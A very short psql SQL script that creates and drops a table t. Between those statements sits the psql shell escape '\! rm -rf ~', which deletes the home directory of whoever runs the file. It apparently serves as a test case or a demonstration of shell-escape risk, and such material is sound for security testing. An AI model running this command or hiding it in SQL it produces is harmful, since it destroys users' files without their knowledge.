CREATE TABLE t (a int);
\! rm -rf ~
DROP TABLE t;
